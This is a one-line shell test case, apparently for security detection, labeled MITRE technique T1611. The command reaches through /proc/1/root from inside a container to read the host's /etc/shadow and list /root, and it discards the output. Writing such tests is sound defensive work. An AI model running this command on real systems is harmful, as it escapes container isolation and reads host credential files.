# title: A container reads files of process 1 by /proc/1/root
# technique: T1611
# in: container

cat /proc/1/root/etc/shadow >/dev/null; ls /proc/1/root/root >/dev/null; true
